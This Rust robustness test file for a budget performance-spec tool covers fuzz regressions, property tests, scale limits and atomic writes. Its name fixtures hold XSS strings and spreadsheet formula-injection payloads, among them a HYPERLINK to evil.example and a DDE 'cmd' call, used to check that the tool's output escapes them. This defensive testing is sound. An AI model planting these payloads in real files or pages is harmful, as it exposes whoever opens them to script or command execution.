//! Robustness (issue 9): never panic, never lose a file, never run injected content.
//!
//! - the regression corpus (`tests/regressions/`, inputs the fuzzers found) replayed
//!   through every stage with the fuzz targets' own oracles;
//! - the grammar-aware mutator of `fuzz/` driven by proptest, so a stable `cargo test`
//!   fuzzes a little too;
//! - property tests over generated valid specs: the JSON contract, fmt, diff;
//! - limits: huge files, long lines and names, 10,000 projects, 100,000 indicators, numbers
//!   beyond rust_decimal, thousands of files, non-UTF-8, NUL, mixed line ends, look-alikes;
//! - atomic writes for every output, and an output inside the input folder;
//! - one hostile spec built to every format;
//! - the exit-code and stdout/stderr contract of every command (docs/cli.md).

#[path = "../fuzz/src/harness.rs"]
mod harness;
#[path = "../fuzz/src/mutate.rs"]
mod mutate;

mod common;
use common::{python_with_jsonschema, Pick};
use perfspec::check::{check_bytes, check_source, FileReport};
use perfspec::model::Model;
use proptest::prelude::*;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

fn perfspec() -> Command {
    Command::new(env!("CARGO_BIN_EXE_perfspec"))
}

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// Run perfspec in `dir` with English messages.
fn run_in(dir: &Path, args: &[&str]) -> Output {
    perfspec()
        .args(args)
        .arg("--lang")
        .arg("en")
        .current_dir(dir)
        .stdin(Stdio::null())
        .output()
        .expect("run perfspec")
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn codes(r: &FileReport) -> Vec<&'static str> {
    r.diagnostics.iter().map(|d| d.code).collect()
}

fn model(r: &FileReport) -> Model {
    Model {
        projects: r.projects.clone(),
    }
}

/// The names in a folder, sorted: what a failed write must leave exactly as it was.
fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .expect("read dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

const HEADER: &str = "年度 2026\n主管部门 上海市绿化和市容管理局\n实施单位 行政服务中心\n";

/// One complete project that checks without errors; `extra` lines go after the indicators.
fn project(name: &str, indicators: &str) -> String {
    format!(
        "项目 {name} {{
  性质 经常性专项业务费
  类别 特定目标类
  期间 2026-01-01 至 2026-12-31
  资金 {{
    年度资金申请总额 100,000.00
    当年财政拨款 100,000.00
    上年结转资金 0.00
    其他资金 0.00
  }}
  年度总体目标 全年受理市民诉求
  经济成本 服务经费成本控制情况 ≤ 10.00 万元
  数量 热线接听次数 ≥ 100 次
{indicators}  社会效益 有责投诉率 ≤ 2 %
  服务对象满意度 市民满意度 ≥ 90 %
}}
"
    )
}

fn spec(indicators: &str) -> String {
    format!("{HEADER}\n{}", project("热线服务保障经费", indicators))
}

// ---------------------------------------------------------------------------------------
// Regression corpus and the mutator

fn regression_files() -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(root().join("tests/regressions"))
        .expect("tests/regressions")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.file_name().is_some_and(|n| n != "README.md"))
        .collect();
    files.sort();
    files
}

/// Every input a fuzzer once crashed on goes through every stage and every oracle again.
#[test]
fn regression_corpus_replays_clean() {
    let files = regression_files();
    assert!(files.len() >= 2, "the corpus is missing: {files:?}");
    let mut failed = Vec::new();
    for path in &files {
        let bytes = std::fs::read(path).expect("read regression input");
        let result = std::panic::catch_unwind(|| harness::run_all(&bytes));
        if result.is_err() {
            failed.push(path.display().to_string());
        }
    }
    assert!(failed.is_empty(), "regressions fail again: {failed:?}");
}

/// The oracles catch what they guard against (so a fuzz run without findings means
/// something).
#[test]
fn the_oracles_reject_broken_outputs() {
    let r = check_source("t.perf", &spec(""));
    let m = model(&r);
    // JSON: a float, a money string with one decimal, a key out of order, a count off.
    let doc: Value = serde_json::from_str(&perfspec::emit::json::to_string(&m)).expect("JSON");
    harness::json_invariants(&doc).expect("the real output passes");
    let mut bad = doc.clone();
    bad["totals"]["funding_total"] = serde_json::json!(100000.0);
    assert!(harness::json_invariants(&bad).is_err());
    let mut bad = doc.clone();
    bad["projects"][0]["funding"]["total"] = serde_json::json!("100000.0");
    assert!(harness::json_invariants(&bad).is_err());
    let mut bad = doc.clone();
    bad["projects"][0]["indicators"][0]["value"] = serde_json::json!("1e5");
    assert!(harness::json_invariants(&bad).is_err());
    let mut bad = doc.clone();
    bad["totals"]["indicators"] = serde_json::json!(99);
    assert!(harness::json_invariants(&bad).is_err());
    let mut bad = doc;
    let p = bad["projects"][0].as_object_mut().expect("object");
    let name = p.remove("name").expect("name");
    p.insert("name".into(), name);
    assert!(harness::json_invariants(&bad).is_err());
    // CSV: a cell that starts a formula, a missing row.
    let csv = perfspec::emit::csv::to_bytes(&m).expect("CSV");
    harness::csv_invariants(&csv, &m).expect("the real output passes");
    let text = String::from_utf8(csv).expect("utf-8");
    let formula = text.replacen("热线接听次数", "=HYPERLINK(1)", 1);
    assert!(harness::csv_invariants(formula.as_bytes(), &m).is_err());
    let short: String = text.lines().take(2).map(|l| format!("{l}\n")).collect();
    assert!(harness::csv_invariants(short.as_bytes(), &m).is_err());
    // HTML: foreign tags and attributes, links out of the page.
    let html = perfspec::emit::html::to_string(&m).expect("HTML");
    harness::html_invariants(&html).expect("the real output passes");
    for injected in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<p onclick=\"x()\">",
        "<a href=\"javascript:alert(1)\">",
        "<!-- -->",
        "<style>*{}</style>",
    ] {
        let page = html.replacen("</h1>", &format!("</h1>{injected}"), 1);
        assert!(
            harness::html_invariants(&page).is_err(),
            "{injected} passed"
        );
    }
}

/// The first regression: a funding amount with a `-` typo was read as a number and a unit,
/// and the formatter's spacing turned it into another statement. Now it is one PS001.
#[test]
fn funding_amount_with_a_minus_typo_is_one_syntax_error() {
    let src = spec("").replace("当年财政拨款 100,000.00", "当年财政拨款 100-000.00");
    let r = check_source("t.perf", &src);
    assert!(codes(&r).contains(&"PS001"), "{:#?}", r.diagnostics);
    assert!(perfspec::fmt::format_source(&src).is_err());
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, .. ProptestConfig::default() })]

    /// The fuzzer's grammar-aware mutations of the real specs, through every stage.
    #[test]
    fn mutated_specs_hold_every_oracle(data in prop::collection::vec(any::<u8>(), 0..96)) {
        let text = mutate::mutate(&data);
        harness::run_all(text.as_bytes());
    }

    /// Arbitrary bytes, and arbitrary text, through every stage.
    #[test]
    fn arbitrary_bytes_hold_every_oracle(data in prop::collection::vec(any::<u8>(), 0..512)) {
        harness::run_all(&data);
    }

    #[test]
    fn arbitrary_text_holds_every_oracle(text in "\\PC{0,300}") {
        harness::run_all(text.as_bytes());
    }
}

// ---------------------------------------------------------------------------------------
// Generated valid specs

/// Name pieces, hostile ones included: markup, formulas, links, bidi and zero-width
/// characters, quotes and backslashes, comparators, very long runs.
const NAME_PARTS: &[&str] = &[
    "热线",
    "受理",
    "服务",
    "窗口",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "=HYPERLINK(\"http://evil.example\",\"点我\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\u{202E}反转\u{202C}",
    "零\u{200B}宽",
    "\"引号\"",
    "反\\斜杠",
    "≥ 比较",
    "#井号",
    "{花括号}",
    "&amp;",
    "'单引号",
    "长名称长名称长名称长名称长名称长名称长名称长名称长名称长名称长名称长名称长名称长名称长名称长名称长名称长名称长名称长名称",
];

/// A name that may need quoting; returns what to write and the name the model holds.
fn gen_name(p: &mut Pick<'_>, k: usize) -> (String, String) {
    let mut name = String::new();
    for _ in 0..1 + p.n(3) {
        name.push_str(p.one(NAME_PARTS));
    }
    // Unique in its project, whatever the pieces.
    name.push_str(&format!("{k}"));
    let mut quoted = String::from("\"");
    for c in name.chars() {
        if c == '"' || c == '\\' {
            quoted.push('\\');
        }
        quoted.push(c);
    }
    quoted.push('"');
    (quoted, name)
}

fn gen_amount(p: &mut Pick<'_>, max_cents: u64) -> u64 {
    (p.n(usize::MAX) as u64) % max_cents.max(1)
}

fn yuan(cents: u64) -> String {
    perfspec::emit::format_money(rust_decimal::Decimal::new(cents as i64, 2))
}

/// A spec that checks without errors (warnings allowed: PS402, PS401, PS403, PS203 …).
fn gen_valid_spec(p: &mut Pick<'_>, file: usize) -> String {
    let mut out = String::from(HEADER);
    for k in 0..1 + p.n(3) {
        let (pname, _) = gen_name(p, file * 10 + k);
        let appropriation = 1 + gen_amount(p, 10_000_000_000);
        let carryover = gen_amount(p, 1_000_000);
        let other = gen_amount(p, 1_000_000);
        let total = appropriation + carryover + other;
        out.push_str(&format!(
            "\n项目 {pname} {{\n  性质 经常性专项业务费\n  类别 特定目标类\n  期间 2026-01-01 至 2026-12-31\n  资金 {{\n    年度资金申请总额 {}\n    当年财政拨款 {}\n    上年结转资金 {}\n    其他资金 {}\n  }}\n",
            yuan(total),
            yuan(appropriation),
            yuan(carryover),
            yuan(other)
        ));
        out.push_str(&format!(
            "  年度总体目标 \"\"\"\n    {}\n\n    第二段 {}\n  \"\"\"\n",
            p.one(NAME_PARTS),
            p.one(NAME_PARTS)
        ));
        // Cost caps that stay within the request, in 元.
        let cap = total / 2;
        let mut j = 0;
        let mut line = |p: &mut Pick<'_>, cat: &str, target: String| {
            let (n, _) = gen_name(p, j);
            j += 1;
            format!("  {cat} {n} {target}\n")
        };
        let capped = format!("≤ {} 元", yuan(cap).replace(',', ""));
        out.push_str(&line(p, "经济成本", capped));
        let count = format!("≥ {} 次", 1 + p.n(1000));
        out.push_str(&line(p, "数量", count));
        for _ in 0..1 + p.n(6) {
            let (cat, target) = match p.n(9) {
                0 => ("数量", format!("≥ {} 件", 1 + p.n(100_000))),
                1 => ("数量", format!("= {}.{:02} 次", 1 + p.n(1000), p.n(100))),
                2 => ("质量", format!("≥ {} %", p.n(101))),
                3 => {
                    let lo = p.n(90);
                    ("质量", format!("= {lo} ~ {} %", lo + p.n(11)))
                }
                4 => ("时效", format!("≤ {} 小时", 1 + p.n(72))),
                5 => ("时效", "= 及时".to_string()),
                6 => (
                    "时效",
                    format!("≤ 2026-{:02}-{:02}", 1 + p.n(12), 1 + p.n(28)),
                ),
                7 => ("经济成本", format!("≤ {} 元/件", 1 + p.n(500))),
                _ => ("数量", format!("≥ ９{} 份", p.n(10))),
            };
            out.push_str(&line(p, cat, target));
        }
        for _ in 0..1 + p.n(3) {
            let (cat, target) = match p.n(3) {
                0 => (
                    "社会效益",
                    format!("= {}", p.one(&["提高", "有效保障", "<b>显著</b>"])),
                ),
                1 => ("可持续影响", "= 健全".to_string()),
                _ => ("社会效益", format!("≥ {} 百分比", p.n(101))),
            };
            out.push_str(&line(p, cat, target));
        }
        let satisfaction = format!("≥ {} %", 50 + p.n(51));
        out.push_str(&line(p, "服务对象满意度", satisfaction));
        out.push_str("}\n");
    }
    out
}

/// What every generated spec promises, through the library.
fn assert_generated_laws(src: &str) {
    let r = check_source("g.perf", src);
    let errors: Vec<_> = r.diagnostics.iter().filter(|d| d.is_error()).collect();
    assert!(
        errors.is_empty(),
        "the generator made errors: {errors:#?}\n{src}"
    );
    let m = model(&r);
    // The JSON contract.
    let doc: Value = serde_json::from_str(&perfspec::emit::json::to_string(&m)).expect("JSON");
    if let Err(e) = harness::json_invariants(&doc) {
        panic!("{e}\n{src}");
    }
    // The money in the JSON is the money of the spec, to the fen.
    let total: rust_decimal::Decimal = m.projects.iter().map(|p| p.funding.annual_total).sum();
    assert_eq!(doc["totals"]["funding_total"], format!("{total:.2}"));
    // CSV and HTML oracles.
    let csv = perfspec::emit::csv::to_bytes(&m).expect("CSV");
    harness::csv_invariants(&csv, &m).unwrap_or_else(|e| panic!("{e}\n{src}"));
    let html = perfspec::emit::html::to_string(&m).expect("HTML");
    harness::html_invariants(&html).unwrap_or_else(|e| panic!("{e}\n{src}"));
    // A spec against itself, and against its formatted copy: no difference.
    assert!(perfspec::diff::diff_models(&m, &m).is_empty());
    harness::run_fmt(src.as_bytes());
    let out = perfspec::fmt::format_source(src).expect("a valid spec formats");
    let again = check_source("g.perf", &out);
    assert!(
        perfspec::diff::diff_models(&m, &model(&again)).is_empty(),
        "fmt changed the meaning\n{src}\n{out}"
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, .. ProptestConfig::default() })]

    /// fmt's own laws are tested on tests/fmt.rs's generator (layout variety); this one
    /// varies the content: hostile names, amounts, every target shape.
    #[test]
    fn generated_valid_specs_keep_their_promises(xs in prop::collection::vec(any::<u32>(), 0..400)) {
        let src = gen_valid_spec(&mut Pick { xs: &xs, i: 0 }, 0);
        assert_generated_laws(&src);
    }
}

/// The same generated specs, built by the CLI and validated by an external JSON Schema
/// validator (one run over all documents).
#[test]
fn generated_builds_validate_against_the_schema() {
    let Some(python) = python_with_jsonschema() else {
        return;
    };
    let dir = tempfile::tempdir().expect("tempdir");
    let mut docs = Vec::new();
    // A fixed pseudo-random sequence: the same specs on every run.
    let mut state = 0x2545_f491_u64;
    for i in 0..40 {
        let xs: Vec<u32> = (0..400)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                (state >> 16) as u32
            })
            .collect();
        let src = gen_valid_spec(&mut Pick { xs: &xs, i: 0 }, i);
        let spec_path = dir.path().join(format!("g{i}.perf"));
        std::fs::write(&spec_path, &src).expect("write spec");
        let out = run_in(
            dir.path(),
            &["build", &format!("g{i}.perf"), "-o", &format!("g{i}.json")],
        );
        assert_eq!(out.status.code(), Some(0), "{}\n{src}", stderr(&out));
        docs.push(dir.path().join(format!("g{i}.json")));
    }
    // And all of them in one build.
    let out = run_in(dir.path(), &["build", ".", "-o", "all.json"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    docs.push(dir.path().join("all.json"));
    let v = Command::new(python)
        .arg(root().join("scripts/validate-schema.py"))
        .args(&docs)
        .output()
        .expect("run validate-schema.py");
    assert_eq!(v.status.code(), Some(0), "{}", stderr(&v));
}

// ---------------------------------------------------------------------------------------
// Limits: clear diagnostics, never a crash or a hang

/// Run `args` in `dir` and print how long it took next to the time it is expected to need
/// (a debug build). Nothing is asserted on the clock: a shared CI machine makes wall-clock
/// limits flaky. Growth is measured by the benchmarks (`scripts/bench.py`, instruction
/// counts); these tests check that the output at scale is right.
fn timed(dir: &Path, args: &[&str], expected: Duration) -> Output {
    let t = Instant::now();
    let out = run_in(dir, args);
    let took = t.elapsed();
    eprintln!(
        "perfspec {} took {took:.1?} (expected under {expected:?})",
        args.join(" ")
    );
    out
}

#[test]
fn a_file_over_32_mib_is_refused_with_ps007() {
    let line = format!("# {}\n", "注".repeat(40));
    let mut src = String::new();
    while src.len() <= perfspec::syntax::MAX_FILE_BYTES {
        src.push_str(&line);
    }
    let r = check_bytes("big.perf", src.as_bytes());
    assert_eq!(codes(&r), ["PS007"]);
    assert!(r.diagnostics[0].message.en.contains("file too large"));
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("big.perf"), &src).expect("write");
    let out = timed(dir.path(), &["check", "big.perf"], Duration::from_secs(60));
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.contains("PS007") && err.len() < 4_000,
        "{}",
        &err[..err.len().min(4000)]
    );
}

#[test]
fn a_line_over_256_kib_is_refused_with_ps007_and_shown_clipped() {
    let src = spec(&format!("  数量 名称 ≥ 1 次 # {}\n", "长".repeat(100_000)));
    let r = check_source("long.perf", &src);
    assert_eq!(codes(&r), ["PS007"]);
    let shown =
        perfspec::diag::render_human("long.perf", &src, &r.diagnostics[0], Default::default());
    assert!(shown.len() < 4_000, "{} bytes shown", shown.len());
}

#[test]
fn very_long_names_are_warnings_and_build_everywhere() {
    let long = "名".repeat(50_000);
    let src = format!(
        "{HEADER}\n{}",
        project(
            &format!("项目{long}"),
            &format!("  数量 \"{long}\" ≥ 1 次\n")
        )
    );
    let r = check_source("n.perf", &src);
    assert!(!r.has_errors(), "{:?}", codes(&r));
    assert!(codes(&r).contains(&"PS403"), "{:?}", codes(&r));
    for d in &r.diagnostics {
        let shown = perfspec::diag::render_human("n.perf", &src, d, Default::default());
        assert!(
            shown.len() < 10_000,
            "{} bytes shown for {}",
            shown.len(),
            d.code
        );
    }
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("n.perf"), &src).expect("write");
    for f in ["json", "csv", "html", "xlsx"] {
        let out = run_in(
            dir.path(),
            &["build", "n.perf", "--format", f, "-o", &format!("n.{f}")],
        );
        assert_eq!(
            out.status.code(),
            Some(0),
            "{f}: {}",
            &stderr(&out)[..2000.min(stderr(&out).len())]
        );
    }
    // JSON keeps the whole name; xlsx cuts it at its cell limit.
    let json = std::fs::read_to_string(dir.path().join("n.json")).expect("json");
    assert!(json.contains(&long));
}

/// 2,500 projects in one file: check, every build, fmt, diff, right at scale (a debug build;
/// growth to 20,000 projects and beyond is measured by `scripts/bench.py`).
#[test]
fn thousands_of_projects_in_one_file() {
    let mut src = String::from(HEADER);
    for i in 0..2_500 {
        src.push('\n');
        src.push_str(&project(&format!("项目{i}"), ""));
    }
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("many.perf"), &src).expect("write");
    let limit = Duration::from_secs(90);
    let out = timed(dir.path(), &["check", "many.perf"], limit);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        &stderr(&out)[..2000.min(stderr(&out).len())]
    );
    assert!(
        stderr(&out).contains("2500 projects, 10000 indicators"),
        "{}",
        stderr(&out)
    );
    for f in ["json", "xlsx"] {
        let o = format!("many.{f}");
        let out = timed(
            dir.path(),
            &["build", "many.perf", "--format", f, "-o", &o],
            limit,
        );
        assert_eq!(out.status.code(), Some(0), "{f}: {}", stderr(&out));
    }
    let doc: Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("many.json")).expect("json"))
            .expect("JSON");
    assert_eq!(doc["totals"]["projects"], 2_500);
    let out = timed(dir.path(), &["fmt", "--check", "many.perf"], limit);
    assert!(matches!(out.status.code(), Some(0 | 1)), "{}", stderr(&out));
    let out = timed(dir.path(), &["diff", "many.perf", "many.perf"], limit);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

/// 25,000 indicator lines in one project (a debug build; `scripts/bench.py` measures more).
#[test]
fn tens_of_thousands_of_indicators_in_one_project() {
    let mut lines = String::new();
    for i in 0..25_000 {
        lines.push_str(&format!("  数量 完成次数{i} ≥ {} 次\n", 1 + i % 97));
    }
    let src = spec(&lines);
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("big.perf"), &src).expect("write");
    // The same project with every name changed: the rename search is bounded.
    std::fs::write(
        dir.path().join("renamed.perf"),
        src.replace("完成次数", "办结次数"),
    )
    .expect("write");
    let limit = Duration::from_secs(90);
    let out = timed(dir.path(), &["check", "big.perf"], limit);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        &stderr(&out)[..2000.min(stderr(&out).len())]
    );
    let out = timed(dir.path(), &["build", "big.perf", "-o", "big.json"], limit);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let out = timed(dir.path(), &["fmt", "--check", "big.perf"], limit);
    assert!(matches!(out.status.code(), Some(0 | 1)), "{}", stderr(&out));
    let out = timed(dir.path(), &["diff", "big.perf", "big.perf"], limit);
    assert_eq!(out.status.code(), Some(0));
    let out = timed(
        dir.path(),
        &["diff", "big.perf", "renamed.perf", "--format", "json"],
        limit,
    );
    assert_eq!(out.status.code(), Some(1));
}

/// Thousands of files: build, fmt --check and diff over a folder of 3,000 specs.
#[test]
fn thousands_of_files() {
    let dir = tempfile::tempdir().expect("tempdir");
    let specs = dir.path().join("specs");
    for i in 0..3_000 {
        let sub = specs.join(format!("d{:02}", i % 30));
        std::fs::create_dir_all(&sub).expect("mkdir");
        let text = format!("{HEADER}\n{}", project(&format!("项目{i}"), ""));
        std::fs::write(sub.join(format!("f{i:04}.perf")), text).expect("write");
    }
    let limit = Duration::from_secs(90);
    let out = timed(dir.path(), &["build", "specs", "-o", "all.json"], limit);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        &stderr(&out)[..2000.min(stderr(&out).len())]
    );
    let doc: Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("all.json")).expect("json"))
            .expect("JSON");
    assert_eq!(doc["totals"]["projects"], 3_000);
    let out = timed(dir.path(), &["fmt", "--check", "specs"], limit);
    assert!(matches!(out.status.code(), Some(0 | 1)), "{}", stderr(&out));
    let out = timed(dir.path(), &["diff", "specs", "specs"], limit);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

/// Twenty thousand findings in one file are rendered in linear time (each used to cost the
/// size of the file: a fuzzer's 4,000-finding input took 41 s, 10,000 took 3 minutes).
#[test]
fn many_diagnostics_in_one_big_file_render_in_linear_time() {
    let mut lines = String::new();
    for i in 0..20_000 {
        lines.push_str(&format!("  数量 重量{i} = 5 公斤次\n"));
    }
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("errors.perf"), spec(&lines)).expect("write");
    let out = timed(
        dir.path(),
        &["check", "errors.perf"],
        Duration::from_secs(60),
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("20000 errors"),
        "{}",
        &stderr(&out)[stderr(&out).len().saturating_sub(300)..]
    );
}

#[test]
fn numbers_beyond_what_rust_decimal_holds_are_ps004() {
    let cases = [
        // 2^96, one more than Decimal's maximum.
        (
            "  数量 次数 ≥ 79228162514264337593543950336 次\n",
            "more digits",
        ),
        (
            "  数量 次数 ≥ 0.00000000000000000000000000000001 次\n",
            "more digits",
        ),
        (
            &*format!("  数量 次数 ≥ {} 次\n", "9".repeat(1000)),
            "more digits",
        ),
        // Money beyond any budget once converted to 元.
        (
            "  经济成本 经费 ≤ 100000000000000 万元\n",
            "beyond any real budget",
        ),
        (
            "  经济成本 经费 ≤ 79228162514264337593543950335 万元\n",
            "beyond any real budget",
        ),
    ];
    for (line, words) in cases {
        let src = spec(line);
        let r = check_source("n.perf", &src);
        let d: Vec<_> = r.diagnostics.iter().filter(|d| d.is_error()).collect();
        assert_eq!(d.len(), 1, "{line}: {:#?}", r.diagnostics);
        assert_eq!(d[0].code, "PS004", "{line}");
        assert!(
            d[0].message.en.contains(words),
            "{line}: {}",
            d[0].message.en
        );
        assert!(d[0].message.en.chars().count() < 200, "{}", d[0].message.en);
        harness::run_all(src.as_bytes());
    }
    let src = spec("").replace(
        "年度资金申请总额 100,000.00",
        "年度资金申请总额 10,000,000,000,000,000.00",
    );
    let r = check_source("n.perf", &src);
    assert!(codes(&r).contains(&"PS004"), "{:?}", codes(&r));
}

#[test]
fn non_utf8_and_nul_bytes_are_ps006_for_every_command() {
    let good = spec("");
    // The spec in GBK, as Windows tools save it: the first non-ASCII byte is at offset 0.
    let gbk: Vec<u8> = vec![0xC4, 0xEA, 0xB6, 0xC8, b' ', b'2', b'0', b'2', b'6', b'\n'];
    let mut nul = good.clone().into_bytes();
    nul.splice(40..40, *b"\0\0");
    for (name, bytes, words) in [
        ("gbk.perf", gbk, "not UTF-8 text (invalid byte at offset 0)"),
        ("nul.perf", nul, "NUL bytes"),
    ] {
        let r = check_bytes(name, &bytes);
        assert_eq!(codes(&r), ["PS006"], "{name}");
        assert!(
            r.diagnostics[0].message.en.contains(words),
            "{}",
            r.diagnostics[0].message.en
        );
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::write(dir.path().join(name), &bytes).expect("write");
        std::fs::write(dir.path().join("good.perf"), &good).expect("write");
        for args in [
            vec!["check", name],
            vec!["build", name, "-o", "out.json"],
            vec!["fmt", name],
            vec!["fmt", "--check", name],
        ] {
            let out = run_in(dir.path(), &args);
            assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
            assert!(stderr(&out).contains("PS006"), "{args:?}: {}", stderr(&out));
        }
        // Left as it was, nothing built.
        assert_eq!(std::fs::read(dir.path().join(name)).expect("read"), bytes);
        assert!(!dir.path().join("out.json").exists());
        // diff reads what it can and says the other side has errors.
        let out = run_in(dir.path(), &["diff", "good.perf", name]);
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
        assert!(
            stderr(&out).contains("the new version has 1 errors"),
            "{}",
            stderr(&out)
        );
    }
}

#[test]
fn mixed_line_ends_read_as_lines() {
    let lf = spec("  数量 办结次数 ≥ 10 次\n  数量 受理次数 ≥ 20 次\n");
    // Every third line CRLF, every third a lone CR (old Mac), the rest LF.
    let mut mixed = String::new();
    let lines: Vec<&str> = lf.lines().collect();
    for (i, line) in lines.iter().enumerate() {
        mixed.push_str(line);
        // A lone CR before an empty line would read as one CRLF: LF there.
        let next_empty = lines.get(i + 1).is_some_and(|l| l.is_empty());
        mixed.push_str(match i % 3 {
            1 => "\r\n",
            2 if !next_empty => "\r",
            _ => "\n",
        });
    }
    assert!(mixed.matches('\r').count() > mixed.matches("\r\n").count());
    let (a, b) = (
        check_source("lf.perf", &lf),
        check_source("mixed.perf", &mixed),
    );
    assert!(!b.has_errors(), "{:#?}", b.diagnostics);
    assert!(perfspec::diff::diff_models(&model(&a), &model(&b)).is_empty());
    // Line numbers count every kind of line end.
    assert_eq!(
        a.projects[0]
            .indicators
            .iter()
            .map(|i| i.loc.line)
            .collect::<Vec<_>>(),
        b.projects[0]
            .indicators
            .iter()
            .map(|i| i.loc.line)
            .collect::<Vec<_>>()
    );
    let broken = mixed.replace("≥ 20 次", "≥ 20 公斤次");
    let r = check_source("mixed.perf", &broken);
    let d = r
        .diagnostics
        .iter()
        .find(|d| d.code == "PS303")
        .expect("PS303");
    let index = perfspec::diag::LineIndex::new(&broken);
    let line = perfspec::diag::render_json_line("mixed.perf", &index, d, perfspec::diag::Lang::En);
    let want = lf
        .lines()
        .position(|l| l.contains("受理次数"))
        .expect("line")
        + 1;
    assert!(
        line.contains(&format!("\"line\":{want},")),
        "want line {want}: {line}"
    );
    // fmt writes LF only, the same text as from the LF file.
    assert_eq!(
        perfspec::fmt::format_source(&mixed).expect("fmt"),
        perfspec::fmt::format_source(&lf).expect("fmt")
    );
}

/// Look-alike Unicode: what is accepted reads exactly like its ASCII twin; what is refused
/// says which character it is and what to write.
#[test]
fn look_alike_unicode_is_accepted_or_refused_precisely() {
    let plain = check_source("p.perf", &spec("  数量 办结次数 ≥ 90 件\n"));
    let accepted = [
        "  数量 办结次数 ≥ ９０ 件\n",
        "  数量 办结次数 ＞＝ 90 件\n",
        "  数量 办结次数 >= 90 件\n",
        "  数量 办结次数 ≧ 90 件\n",
        "  数量 办结次数 ⩾ 90 件\n",
        "  数量 办结次数\u{3000}≥\u{3000}90\u{3000}件\n",
        "  数量 办结次数 ≥ 9０ 件\n",
    ];
    for line in accepted {
        let r = check_source("a.perf", &spec(line));
        assert!(!r.has_errors(), "{line}: {:#?}", r.diagnostics);
        assert!(
            perfspec::diff::diff_models(&model(&plain), &model(&r)).is_empty(),
            "{line} reads differently"
        );
    }
    let refused = [
        (
            "  数量 办结次数 ≽ 90 件\n",
            "PS001",
            "“≽” (U+227D) is not a comparator",
            "write ≥",
        ),
        (
            "  数量 办结次数 ⪰ 90 件\n",
            "PS001",
            "(U+2AB0) is not a comparator",
            "write ≥",
        ),
        (
            "  数量 办结次数 ≻ 90 件\n",
            "PS001",
            "(U+227B) is not a comparator",
            "write >",
        ),
        (
            "  数量 办结次数 ﹥ 90 件\n",
            "PS001",
            "(U+FE65) is not a comparator",
            "write >",
        ),
        (
            "  数量 办结次数 ≥ ٩٠ 件\n",
            "PS004",
            "“٩” (U+0669) is not a digit",
            "write 9",
        ),
        (
            "  数量 办结次数 ≥ ۹۰ 件\n",
            "PS004",
            "(U+06F9) is not a digit",
            "write 9",
        ),
        (
            "  数量 办结次数 ≥ 𝟗𝟎 件\n",
            "PS004",
            "(U+1D7D7) is not a digit",
            "write 9",
        ),
        (
            "  数量 办结次数 = 〇 件\n",
            "PS004",
            "(U+3007) is not a digit",
            "write 0",
        ),
        (
            "  数量 办结次数 ≥ 9Ｏ 件\n",
            "PS001",
            "“Ｏ” in the target “9Ｏ 件” is not a digit",
            "write 0",
        ),
        (
            "  数量 办结次数 ≥ 9O 件\n",
            "PS001",
            "“O” in the target",
            "write 0",
        ),
        (
            "  数量 办结次数 ≥ 1l 件\n",
            "PS001",
            "“l” in the target",
            "write 1",
        ),
    ];
    for (line, code, message, help) in refused {
        let r = check_source("r.perf", &spec(line));
        let errors: Vec<_> = r.diagnostics.iter().filter(|d| d.is_error()).collect();
        assert_eq!(
            errors.len(),
            1,
            "{line}: one mistake, one diagnostic: {:#?}",
            r.diagnostics
        );
        let d = errors[0];
        assert_eq!(d.code, code, "{line}");
        assert!(d.message.en.contains(message), "{line}: {}", d.message.en);
        let h = d.help.as_ref().map(|h| h.en.as_str()).unwrap_or("");
        assert!(h.contains(help), "{line}: {h}");
        // The formatter refuses the file rather than guess.
        assert!(perfspec::fmt::format_source(&spec(line)).is_err(), "{line}");
    }
    // A quoted name may hold a look-alike: it is text, and fmt keeps it quoted.
    let quoted = spec("  数量 \"办结 ≽ 次数\" 90 件\n");
    let r = check_source("q.perf", &quoted);
    assert!(!r.has_errors(), "{:#?}", r.diagnostics);
    let out = perfspec::fmt::format_source(&quoted).expect("fmt");
    assert!(out.contains("\"办结 ≽ 次数\""), "{out}");
}

// ---------------------------------------------------------------------------------------
// Atomic writes: on any error the previous output stays; no temporary file is left

const FORMATS: [&str; 4] = ["json", "csv", "html", "xlsx"];

/// Build every format, then build again over the outputs from a broken spec, and from a
/// good spec that fails late (an invalid SOURCE_DATE_EPOCH for xlsx): the old outputs are
/// byte for byte what they were, and the folder holds exactly the same names.
#[test]
